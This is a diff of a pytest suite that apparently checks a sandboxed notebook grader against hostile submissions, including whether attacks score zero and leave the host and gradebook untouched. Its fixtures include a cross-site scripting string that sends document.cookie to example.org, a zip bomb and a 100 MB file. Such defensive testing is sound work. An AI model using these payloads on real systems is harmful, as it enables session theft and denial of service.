@@ -33,6 +33,7 @@ if PROBLEM and os.environ.get("CI") == "true":
 pytestmark = [pytest.mark.skipif(bool(PROBLEM), reason=f"the hostile suite needs bubblewrap: {PROBLEM}"),
               pytest.mark.xdist_group("hostile")]  # one class, graded once
 
+OWN_HARM = ("patch-everything", "patch-worker", "lies")  # who breaks their own Python may lose their own next answer
 HONEST = ("00-honest", "flood-pipe-honest", "kill-all-honest", "zz-honest")
 SCRIPT = "<script>document.location='https://example.org/?'+document.cookie</script>"
 
@@ -79,7 +80,7 @@ FILES = {  # name: (file name, content, part of the reason)
     "number-cell": (FILE, '{"nbformat": 4, "cells": [7]}', "not a cell"),
     "many-cells": (FILE, json.dumps({"nbformat": 4, "cells": [{"cell_type": "raw"}] * 5000}), "2000 cells"),
     "hundred-mb": (FILE, b" " * 100_000_000, "larger than 10 MB"),
-    "another-notebook": (FILE, '{"nbformat": 4, "cells": []}', ""),
+    "another-notebook": (FILE, '{"nbformat": 4, "cells": []}', "nothing in it"),
     "no-notebook": ("essay.docx", b"PK", "not a notebook"),
     "zip-bomb": ("work.zip", bomb, "member that cannot be read"),
     "zip-honest-bomb": ("work.zip", lambda: zipped((FILE, bytes(200_000_000))), "larger than 10 MB"),
@@ -149,7 +150,8 @@ def test_an_attack_scores_nothing_and_spoils_nothing(graded, name):
     attacked, other = item(graded, name, "3.1"), item(graded, name, "3.2")
     assert (attacked.status, attacked.score) == (status, 0.0), attacked
     assert attacked.diagnosis in reasons.split(), attacked
-    assert (other.status, other.score) == ("right", 2.0), other
+    if name not in OWN_HARM:
+        assert (other.status, other.score) == ("right", 2.0), other
 
 
 @pytest.mark.parametrize("name", HONEST)
@@ -166,10 +168,9 @@ def test_a_hostile_file_is_rejected_with_its_reason(graded, name):
     assert FILES.get(name, ("", "", "a link" if name == "link" else "not a regular file"))[2] in result.why, result.why
 
 
-def test_a_linked_folder_is_nobodys(graded):
-    assert "linked-folder" not in graded.results
-    assert any("linked-folder (a link" in line for line in graded.collection.ambiguous + graded.collection.unknown) or \
-        graded.results["linked-folder"].status == "rejected"
+def test_a_linked_folder_is_not_followed(graded):
+    assert (graded.results["linked-folder"].status, graded.results["linked-folder"].total) == ("rejected", None)
+    assert "a link" in graded.results["linked-folder"].why
 
 
 @pytest.mark.parametrize(("name", "said"), [("network", "reached: []"), ("read-hidden", "found: []"),
@@ -181,7 +182,7 @@ def test_what_it_tried_to_reach_was_not_there(graded, name, said):
 def test_this_machine_is_as_it_was(graded, host, listener):
     assert (host / "canary").read_text() == "alive"
     assert (host / "neighbour" / FILE).read_text() == "a neighbour's answers"
-    assert not [path for name in ("owned", "daemon", "fill*") for path in host.glob(f"**/{name}")]
+    assert not list(host.rglob("evil*"))
     with pytest.raises(BlockingIOError):  # nobody has knocked
         listener.accept()
 
@@ -199,7 +200,7 @@ def test_the_gradebook_has_only_the_scores_that_were_given(graded, host):
                  "JOIN submitted_assignment s ON n.assignment_id = s.id GROUP BY s.student_id")
         marks = dict(book.execute(query))
     assert {name: marks[name] for name in HONEST} == dict.fromkeys(HONEST, 4.0)
-    assert {marks[name] for name in ATTACKS} == {2.0}
+    assert {marks[name] for name in ATTACKS if name not in OWN_HARM} == {2.0}
     assert not set(FILES) & set(marks)
 
 
